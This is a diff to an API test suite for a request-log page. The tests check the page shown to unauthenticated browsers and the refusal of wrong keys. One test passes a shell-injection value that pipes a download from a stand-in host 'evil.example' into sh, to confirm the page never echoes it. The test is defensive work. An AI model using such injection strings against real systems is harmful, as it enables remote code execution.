@@ -229,10 +229,25 @@ describe('the request log', () => {
     expect((await page(known, { key: await mint('request_log:read') })).status).toBe(200);
   });
 
-  it('tells a browser without a key what to do', async () => {
-    const { status, text, headers } = await page('req_00000000000000000000000000', { key: null });
-    expect([status, headers.get('content-type')]).toEqual([401, 'text/html; charset=utf-8']);
-    expect(text).toContain('Authorization: Bearer');
+  it('tells a browser without a key how to read it, alike for what exists and for what does not', async () => {
+    const known = (await ask('GET /v1/settings')).headers.get('request-id') as string;
+    const unknown = 'req_00000000000000000000000000';
+    const [shown, other] = [await page(known, { key: null }), await page(unknown, { key: null })];
+    expect([shown.status, shown.headers.get('content-type')]).toEqual([200, 'text/html; charset=utf-8']);
+    const refused = await ask('GET /v1/payment_intents?limit=0');
+    const url = (refused.body.error.request_log_url as string).replace(/req_\w+/, known);
+    expect(shown.text).toContain('curl -H "Authorization: Bearer $KEY"');
+    expect(shown.text).toContain(`'${url}'`);
+    expect(shown.text).toContain('request_log:read');
+    expect(other.text).toBe(shown.text.replaceAll(known, unknown));
+    expect(other.status).toBe(200);
+  });
+
+  it('repeats no text in that page that is no id, and refuses a wrong key as before', async () => {
+    const { status, text } = await page(encodeURIComponent("';curl evil.example|sh;'"), { key: null });
+    expect([status, text.includes('evil')]).toEqual([200, false]);
+    const wrong = await page('req_00000000000000000000000000', { key: 'sk_test_wrong' });
+    expect([wrong.status, wrong.text.includes('invalid_api_key')]).toEqual([401, true]);
   });
 
   it('tells a program its faults in the envelope', async () => {
